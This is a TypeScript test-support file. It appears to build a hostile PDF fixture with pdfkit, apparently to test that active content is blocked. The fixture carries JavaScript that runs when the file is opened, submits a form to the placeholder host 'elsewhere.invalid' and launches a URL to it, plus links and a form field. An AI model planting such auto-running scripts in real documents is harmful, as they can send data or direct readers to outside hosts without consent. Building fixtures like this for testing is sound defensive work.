// tests/support/hostile-pdf.ts · a PDF that wants to act: scripts on opening, a link, a form, a file from elsewhere
import PDFDocument from 'pdfkit';

const ELSEWHERE = 'https://elsewhere.invalid';

export async function hostilePdf(): Promise<Uint8Array> {
  const doc = new PDFDocument({ size: 'LETTER' });
  doc.addNamedJavaScript('start', `app.alert('script'); this.submitForm('${ELSEWHERE}/script');`);
  doc.text('A paper with more than words', 72, 72, { link: `${ELSEWHERE}/link` });
  doc.link(0, 0, 612, 792, `${ELSEWHERE}/whole-page`);
  doc.initForm();
  doc.formText('field', 72, 200, 200, 30, { value: 'FORM' });
  const catalog = (doc as unknown as { readonly _root: { readonly data: Record<string, unknown> } })._root;
  const opened = doc.ref({ S: 'JavaScript', JS: new String(`app.launchURL('${ELSEWHERE}/open')`) } as object);
  catalog.data['OpenAction'] = opened;
  (opened as unknown as { end(): void }).end();
  const chunks: Buffer[] = [];
  doc.on('data', (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise<void>((resolve) => void doc.on('end', resolve));
  doc.end();
  await ended;
  return new Uint8Array(Buffer.concat(chunks));
}
